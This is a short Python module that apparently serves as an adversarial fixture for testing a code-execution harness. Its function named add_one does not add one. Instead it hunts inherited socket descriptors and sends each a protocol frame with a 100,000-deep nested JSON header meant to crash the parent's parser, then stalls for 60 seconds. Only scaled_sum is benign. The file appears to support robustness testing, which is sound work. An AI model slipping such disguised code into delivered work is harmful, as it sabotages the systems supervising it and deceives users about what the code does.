# Speaks the protocol itself: writes a reply frame whose JSON header nests 100,000 arrays deep, then waits.
import os
import socket
import stat
import struct
import time


def add_one(x):
    header = b"[" * 100_000 + b"]" * 100_000
    for fd in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
            channel = socket.socket(fileno=os.dup(fd))
            if channel.type == socket.SOCK_STREAM:
                channel.sendall(struct.pack(">II", len(header), 0) + header)
        except OSError:
            continue
    time.sleep(60)


def scaled_sum(x, factor):
    if isinstance(factor, bool):
        raise TypeError("factor must be a number")
    return x.sum() * factor
